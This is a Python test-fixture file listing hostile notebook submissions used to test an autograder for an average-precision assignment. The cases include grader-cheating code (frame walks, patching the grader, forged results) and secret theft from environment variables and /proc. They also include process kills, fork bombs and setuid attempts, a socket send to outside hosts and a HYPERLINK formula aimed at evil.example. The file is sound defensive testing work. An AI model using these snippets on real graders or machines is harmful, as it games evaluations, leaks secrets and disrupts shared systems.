"""Hostile submissions of the 03_ap_map assignment (issue 12): every cheat and break the issue lists, and more.

Each :class:`Case` is a notebook built from the correct solution cells of
``exercises/source/03_ap_map.ipynb`` (tasks ``ap.value``, ``ap.exact``, ``ap.eleven_point``,
``map.mean``): ``replace`` swaps a task's solution cell for hostile code, ``extra`` adds hostile
cells after the solutions (``before`` = in front of them), ``raw`` edits the notebook JSON itself.
``honest`` is the number of tasks the submission's own honest work gets right; the grader must
never give more (``exact``: exactly that many -- a break must not cost the student's other tasks).
Placeholders replaced by the test (plain text replacement): ``{root}`` (the repository), ``{subdir}``
(the submissions folder), ``{port}`` (a listening TCP port of the test), ``{marker}`` (a unique number).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

TASK_CELLS = {"ap.value": "value", "ap.exact": "my_ap", "ap.eleven_point": "my_11pt", "map.mean": "my_map"}


@dataclass
class Case:
    name: str
    honest: int
    replace: dict = field(default_factory=dict)  # task id -> code instead of its solution
    extra: list = field(default_factory=list)  # cells after the solutions
    before: list = field(default_factory=list)  # cells before the solutions (after the id cell)
    student_id: object = None  # None: the case's own id "adv<number>"
    exact: bool = False
    raw: Callable | None = None  # edits the notebook dict (after it is built) or returns bytes for the file
    folder: str = ""  # a sub-folder of the submissions folder
    file_name: str = ""  # default: the case name
    leak_probe: bool = False  # its feedback is searched for hidden inputs with extra care


ALL_INF = {t: c for t, c in {
    "ap.value": "my_ap_value = float('inf')",
    "ap.exact": "def my_ap(labels, n_relevant):\n    return float('inf')",
    "ap.eleven_point": "def my_11pt(labels, n_relevant):\n    return float('inf')",
    "map.mean": "def my_map(runs, n_relevant):\n    return float('inf')"}.items()}


def _all(code_for: Callable[[str, str], str]) -> dict:
    names = {"ap.exact": ("my_ap", "labels, n_relevant"), "ap.eleven_point": ("my_11pt", "labels, n_relevant"),
             "map.mean": ("my_map", "runs, n_relevant")}
    out = {"ap.value": code_for("value", "")}
    for t, (fn, params) in names.items():
        out[t] = code_for(fn, params)
    return out


def _returns(expr: str, prelude: str = "") -> dict:
    def code(fn: str, params: str) -> str:
        if fn == "value":
            return f"{prelude}\nmy_ap_value = {expr}"
        return f"{prelude}\ndef {fn}({params}):\n    return {expr}"
    return _all(code)


FRAME_WALK = '''import sys
def my_ap(labels, n_relevant):
    f = sys._getframe()
    while f is not None:
        for key in ("expected", "right", "probes", "want"):
            if key in f.f_locals:
                v = f.f_locals[key]
                try:
                    return float(v[0] if isinstance(v, list) else v)
                except Exception:
                    pass
        f = f.f_back
    return 0.0'''

GC_SCAN = '''import gc
def my_ap(labels, n_relevant):
    for o in gc.get_objects():
        if isinstance(o, dict) and "expected" in o and isinstance(o["expected"], (int, float)):
            return float(o["expected"])
        if type(o).__name__ == "Task" and hasattr(o, "expected"):
            return o.expected({"labels": labels, "n_relevant": n_relevant})
    return 0.0'''

IMPORT_TASKS = '''from ireval_teach.exercises.tasks import TASKS
def my_ap(labels, n_relevant):
    return TASKS["ap.exact"].expected({"labels": labels, "n_relevant": n_relevant})'''

IMPORT_IN_BODY = '''def my_ap(labels, n_relevant):
    from ireval_teach.average_precision import average_precision
    from ireval_teach.ranking import Ranking
    return average_precision(Ranking(labels), n_relevant)'''

IMPORTLIB = '''def my_ap(labels, n_relevant):
    import importlib
    tasks = importlib.import_module("ireval_teach.exercises.tasks")
    return tasks.TASKS["ap.exact"].expected({"labels": labels, "n_relevant": n_relevant})'''

BY_PATH = '''import importlib.util, sys
def my_ap(labels, n_relevant):
    for path in ["{root}/ireval_teach/__init__.py"]:
        spec = importlib.util.spec_from_file_location("ireval_teach", path,
                                                      submodule_search_locations=["{root}/ireval_teach"])
        mod = importlib.util.module_from_spec(spec)
        sys.modules["ireval_teach"] = mod
        spec.loader.exec_module(mod)
        from ireval_teach.exercises.tasks import TASKS
        return TASKS["ap.exact"].expected({"labels": labels, "n_relevant": n_relevant})'''

SYS_PATH = '''import sys
sys.path.insert(0, "{root}")
for k in [k for k in sys.modules if k.startswith("ireval_teach")]:
    del sys.modules[k]
sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in repr(f)]
import ireval_teach.exercises.tasks as _t
def my_ap(labels, n_relevant):
    return _t.TASKS["ap.exact"].expected({"labels": labels, "n_relevant": n_relevant})'''

EXEC_SOLUTIONS = '''import json, os
import ireval_teach
here = os.path.dirname(getattr(ireval_teach, "__file__", "") or "{root}/ireval_teach/x")
for path in [os.path.join(here, "..", "exercises", "source", "03_ap_map.ipynb"),
             "{root}/exercises/source/03_ap_map.ipynb"]:
    try:
        nb = json.load(open(path))
    except OSError:
        continue
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())'''

PATCH_GRADER = '''import importlib
for mod, attr in [("ireval_teach.exercises.grading", "emit_results"), ("ireval_teach.exercises.probing", "close"),
                  ("ireval_teach.exercises.tasks", "close"), ("ireval_teach.exercises.probing", "check_function")]:
    try:
        m = importlib.import_module(mod)
        setattr(m, attr, lambda *a, **k: True)
    except Exception:
        pass
import ireval_teach.exercises as ex
ex.check = lambda *a, **k: True
ex.close = lambda *a, **k: True'''

FORGED_DISPLAY = '''from IPython.display import publish_display_data
rows = [{"task": t, "passed": True, "status": "passed", "message": "ok", "misconception": "", "first_divergence": ""}
        for t in ["ap.value", "ap.exact", "ap.eleven_point", "map.mean"]]
for nonce in ["", "0" * 16]:
    publish_display_data({"application/x-ireval-grades+json": {"nonce": nonce, "student_id": "adv", "results": rows},
                          "text/plain": "graded 4 tasks"})'''

INPUT_TRANSFORMER = '''ip = get_ipython()
def steal(lines):
    return [l.replace("emit_results", "print") for l in lines]
ip.input_transformers_post.append(steal)
ip.input_transformers_cleanup.append(steal)'''

FORGED_PROTOCOL = '''import os
junk = (b'{"ready":true}\\n' + b'{"messages":[{"outcome":{"ok":true,"value":0.5,"type":"float"},'
        b'{"callable":false,"value":0.5}],"finished":true,"crash":null}\\n' * 50)
for fd in range(3, 40):
    try:
        os.write(fd, junk)
    except OSError:
        pass'''

ENV_DUMP = '''import os
my_ap_value = "SECRET? " + repr(os.environ.get("IREVAL_EXERCISE_SECRET")) + repr(dict(os.environ))'''

PROC_ENVIRON = '''import os
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline"):
            try:
                found.append(open(f"/proc/{pid}/{name}", "rb").read().decode("latin-1"))
            except OSError:
                pass
my_ap_value = " | ".join(found)[:5000]'''

LEAK_CLASS_NAME = '''def my_ap(labels, n_relevant):
    raise type("L" + "".join(map(str, labels)) + "_" + str(n_relevant), (Exception,), {})("x")'''

LEAK_MESSAGE = '''def my_ap(labels, n_relevant):
    raise ValueError(repr(labels) + " " + "".join(map(str, labels)) + " " + str(n_relevant))'''

LEAK_PRINT = '''def my_ap(labels, n_relevant):
    print(repr(labels), "".join(map(str, labels)), n_relevant)
    return -1.0'''

LEAK_FILE_LATER = '''import os
def my_ap(labels, n_relevant):
    with open("/tmp/work/log.txt", "a") as fh:
        fh.write(repr(labels) + " " + "".join(map(str, labels)) + "\\n")
    raise ValueError(open("/tmp/work/log.txt").read()[-290:])'''

LEAK_FILE_ACROSS = '''def my_ap(labels, n_relevant):
    with open("/tmp/work/across.txt", "a") as fh:
        fh.write(repr(labels) + " " + "".join(map(str, labels)) + "\\n")
    return -1.0
def my_11pt(labels, n_relevant):
    try:
        seen = open("/tmp/work/across.txt").read()
    except OSError:
        seen = ""
    raise ValueError(seen[-290:])'''

LEAK_TYPE_NAME = '''def my_ap(labels, n_relevant):
    return type("T" + "".join(map(str, labels)), (), {})()'''

LEAK_CODE_NAME = '''def my_ap(labels, n_relevant):
    ns = {}
    exec("def f_" + "".join(map(str, labels)) + "():\\n    raise ValueError('x')", ns)
    return [v for k, v in ns.items() if k.startswith("f_")][0]()'''

LEAK_OPAQUE_TEXT = '''def my_ap(labels, n_relevant):
    return [repr(labels), "".join(map(str, labels))]'''

LEAK_FACTS_LATER = '''import os
def my_ap(labels, n_relevant):
    with open("/tmp/work/facts.txt", "a") as fh:
        fh.write("".join(map(str, labels)) + "\\n")
    return -1.0
class Named:
    def __call__(self, labels, n_relevant):
        return -1.0
    @property
    def __name__(self):
        try:
            return open("/tmp/work/facts.txt").read()[-70:]
        except OSError:
            return "named"
my_11pt = Named()'''

SYSEXIT_FLOAT = '''class Evil(float):
    def __float__(self):
        raise SystemExit(3)
    def __repr__(self):
        raise SystemExit(4)
my_ap_value = Evil(0.5)'''

LOOP_FLOAT = '''class Slow(float):
    def __float__(self):
        while True:
            pass
    def __repr__(self):
        while True:
            pass
my_ap_value = Slow(0.5)'''

LOOP_SIGNATURE = '''class AP:
    @property
    def __signature__(self):
        while True:
            pass
    def __call__(self, labels, n_relevant):
        tp, total = 0, 0.0
        for rank, label in enumerate(labels, start=1):
            if label:
                tp += 1
                total += tp / rank
        return total / n_relevant if n_relevant else 0.0
my_ap = AP()'''

SYSEXIT_SIGNATURE = '''def my_ap(labels, n_relevant):
    return 0.0
class Bad:
    def __get__(self, *a):
        raise SystemExit(1)
type(my_ap)  # functions cannot take the descriptor; wrap instead
class Wrapped:
    __signature__ = property(lambda self: (_ for _ in ()).throw(SystemExit(2)))
    def __call__(self, labels, n_relevant):
        return 0.0
my_ap = Wrapped()'''

LOOP_REPR_RETURN = '''class R:
    def __repr__(self):
        while True:
            pass
def my_ap(labels, n_relevant):
    return R()'''

LIAR = '''class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __ge__(self, other): return True
    def __hash__(self): return 0'''

#: A STUDENT_ID whose str() raises SystemExit (the id cell gets this code instead of a literal).
RAISING_ID = "__raising_str_id__"
RAISING_ID_CODE = '''class Sid(str):
    def __str__(self):
        raise SystemExit(1)
    def strip(self, *a):
        raise SystemExit(1)
STUDENT_ID = Sid("raiser")'''

CASES: list[Case] = [
    # ---- correct work, at full marks
    Case("correct_a", 4, exact=True),
    Case("correct_b", 4, exact=True),
    Case("correct_int_id", 4, exact=True, student_id=4242),
    Case("correct_numpy_value", 4, exact=True, extra=["import numpy as np\nmy_ap_value = np.float64(my_ap_value)"]),
    Case("correct_with_check_comment", 4, exact=True,
         extra=['# check("bogus.task", 1)\n# check("set.precision", 0.1, student_id=STUDENT_ID)']),
    # ---- numbers that are not answers
    Case("inf_everywhere", 0, replace=ALL_INF),
    Case("nan_everywhere", 0, replace=_returns("float('nan')")),
    Case("numpy_inf", 0, replace=_returns("np.float64('inf')", "import numpy as np")),
    Case("huge_numbers", 0, replace=_returns("1e308")),
    Case("liar_float", 0, replace=_returns("Liar(0.123)", LIAR)),
    Case("bool_and_text", 0, replace=_returns("True") | {"ap.exact": "def my_ap(labels, n_relevant):\n    return '0.5'"}),
    Case("value_is_function", 3, replace={"ap.value": "my_ap_value = lambda: 0.5"}),
    Case("generator_result", 3, replace={"ap.exact": "def my_ap(labels, n_relevant):\n    yield 0.5"}),
    # ---- reaching for the checker's secrets
    Case("frame_walk", 3, replace={"ap.exact": FRAME_WALK}),
    Case("gc_scan", 3, replace={"ap.exact": GC_SCAN}),
    Case("import_tasks", 3, replace={"ap.exact": IMPORT_TASKS}),
    Case("import_in_body", 3, replace={"ap.exact": IMPORT_IN_BODY}),
    Case("importlib_tasks", 3, replace={"ap.exact": IMPORTLIB}),
    Case("package_by_path", 3, replace={"ap.exact": BY_PATH}),
    Case("sys_path_repository", 3, replace={"ap.exact": SYS_PATH}),
    Case("exec_source_solutions", 0, replace=_returns("...") , extra=[EXEC_SOLUTIONS]),
    Case("patch_grader", 0, replace=_returns("0.123"), extra=[PATCH_GRADER]),
    Case("forged_display_payload", 0, replace=_returns("..."), extra=[FORGED_DISPLAY]),
    Case("input_transformer", 0, replace=_returns("0.123"), before=[INPUT_TRANSFORMER]),
    Case("forged_protocol", 0, replace=_returns("0.123"), extra=[FORGED_PROTOCOL]),
    Case("env_secret", 3, replace={"ap.value": ENV_DUMP}, leak_probe=True),
    Case("proc_environ", 3, replace={"ap.value": PROC_ENVIRON}, leak_probe=True),
    # ---- smuggling hidden inputs into the feedback
    Case("leak_exception_class_name", 3, replace={"ap.exact": LEAK_CLASS_NAME}, leak_probe=True),
    Case("leak_exception_message", 3, replace={"ap.exact": LEAK_MESSAGE}, leak_probe=True),
    Case("leak_print", 3, replace={"ap.exact": LEAK_PRINT}, leak_probe=True),
    Case("leak_file_then_visible", 3, replace={"ap.exact": LEAK_FILE_LATER}, leak_probe=True),
    Case("leak_file_across_tasks", 2, replace={"ap.exact": LEAK_FILE_ACROSS, "ap.eleven_point": "pass"},
         leak_probe=True),
    Case("leak_type_name", 3, replace={"ap.exact": LEAK_TYPE_NAME}, leak_probe=True),
    Case("leak_code_name", 3, replace={"ap.exact": LEAK_CODE_NAME}, leak_probe=True),
    Case("leak_opaque_text", 3, replace={"ap.exact": LEAK_OPAQUE_TEXT}, leak_probe=True),
    Case("leak_function_name", 2, replace={"ap.exact": LEAK_FACTS_LATER, "ap.eleven_point": "pass"},
         leak_probe=True),
    # ---- answers that attack the checker itself
    Case("systemexit_in_float", 3, exact=True, replace={"ap.value": SYSEXIT_FLOAT}),
    Case("loop_in_float", 3, exact=True, replace={"ap.value": LOOP_FLOAT}),
    Case("loop_in_signature", 4, exact=True, replace={"ap.exact": LOOP_SIGNATURE}),
    Case("systemexit_in_signature", 3, exact=True, replace={"ap.exact": SYSEXIT_SIGNATURE}),
    Case("loop_in_repr_of_result", 3, exact=True, replace={"ap.exact": LOOP_REPR_RETURN}),
    Case("keyboard_interrupt", 3, exact=True,
         replace={"ap.exact": "def my_ap(labels, n_relevant):\n    raise KeyboardInterrupt"}),
    Case("sleeping_function", 3, exact=True,
         replace={"ap.exact": "import time\ndef my_ap(labels, n_relevant):\n    time.sleep(30)\n    return 0.0"}),
    # ---- breaking the process, the machine, the neighbours
    Case("kill_parent", 4, extra=["import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"]),
    Case("kill_everything", 4, extra=["import os, signal\nos.kill(-1, signal.SIGKILL)"]),
    Case("os_exit", 4, extra=["import os\nos._exit(0)"]),
    Case("fork_bomb", 4, extra=["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"]),
    Case("fork_bomb_in_new_user_namespace", 4, extra=[
        "import ctypes, os\nctypes.CDLL(None).unshare(0x10000000)\nwhile True:\n    try:\n        os.fork()\n"
        "    except OSError:\n        pass"]),
    Case("setuid_root", 4, exact=True, extra=[
        "import os\nfor f in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0)):\n"
        "    try:\n        f()\n    except OSError:\n        pass"]),
    Case("daemon", 4, exact=True, extra=[
        "import subprocess\nsubprocess.Popen(['sleep', '{marker}'], start_new_session=True)\n"
        "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('sleep', ['sleep', '{marker}1'])"]),
    Case("ignore_alarm_loop", 4, extra=["import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass"]),
    Case("swallow_timeout_loop", 4, extra=["while True:\n    try:\n        while True:\n            pass\n"
                                           "    except BaseException:\n        pass"]),
    Case("background_exit", 4, extra=["import threading, time, os\n"
                                      "threading.Thread(target=lambda: (time.sleep(0.3), os._exit(0)), daemon=True).start()"]),
    Case("memory_bomb", 4, exact=True, extra=["x = bytearray(30 << 30)"]),
    Case("disk_bomb", 4, exact=True, extra=["with open('/tmp/work/big', 'wb') as fh:\n"
                                            "    for _ in range(400):\n        fh.write(b'x' * (1 << 20))"]),
    Case("print_flood", 4, exact=True, extra=["for _ in range(50):\n    print('x' * 1_000_000)"]),
    Case("protocol_flood", 4, extra=["import os\nfor fd in range(3, 40):\n    try:\n"
                                     "        os.write(fd, b'x' * (9 << 20))\n    except OSError:\n        pass"]),
    Case("close_channel", 4, extra=["import os\nos.closerange(3, 1000)"]),
    Case("write_siblings", 4, exact=True, extra=[
        "import os\nfor p in ['{subdir}/pwned_{marker}.txt', '{root}/pwned_{marker}.txt', '/tmp/pwned_{marker}']:\n"
        "    try:\n        open(p, 'w').write('x')\n    except OSError:\n        pass\n"
        "for p in ['{subdir}/correct_a.ipynb']:\n    try:\n        open(p, 'w').write('{}')\n    except OSError:\n"
        "        pass"]),
    Case("read_siblings", 3, replace={"ap.value": "import glob\nmy_ap_value = ''\nfor p in glob.glob('{subdir}/**/*.ipynb', "
                                                  "recursive=True) + glob.glob('/**/*.ipynb', recursive=True)[:50]:\n"
                                                  "    my_ap_value += open(p).read()[:3000]"}, leak_probe=True),
    Case("network", 4, exact=True, extra=[
        "import socket\nfor host in ['127.0.0.1', '10.0.2.2', '8.8.8.8']:\n    try:\n"
        "        socket.create_connection((host, {port}), timeout=1).sendall(b'pwned')\n    except OSError:\n        pass"]),
    # ---- broken files and hostile records
    Case("cell_without_source", 4, exact=True, raw=lambda nb: nb["cells"].insert(1, {"cell_type": "code", "metadata": {}})),
    Case("cell_source_odd_types", 4, exact=True,
         raw=lambda nb: nb["cells"].insert(1, {"cell_type": "code", "source": [1, None, "x = 1"], "metadata": {}})),
    Case("cells_not_a_list", 0, raw=lambda nb: nb.update(cells={"a": 1})),
    Case("not_json", 0, raw=lambda nb: b"\x00\xff{ this is not a notebook"),
    Case("json_list", 0, raw=lambda nb: b"[1, 2, 3]"),
    Case("too_large", 0, raw=lambda nb: b" " * (21 << 20)),
    Case("formula_id", 4, exact=True, student_id='=HYPERLINK("http://evil.example/?"&A1,"click")'),
    Case("slash_id", 4, exact=True, student_id="s/13"),
    Case("underscore_id", 4, exact=True, student_id="s_13"),
    Case("dup_name_a", 4, exact=True, student_id="dup", folder="a", file_name="dup"),
    Case("dup_name_b", 4, exact=True, student_id="dup", folder="b", file_name="dup"),
    Case("control_char_id", 4, exact=True, student_id="s9\n\x1b[31m\u202e+1"),
    Case("raising_str_id", 3, exact=True, student_id=RAISING_ID),
]
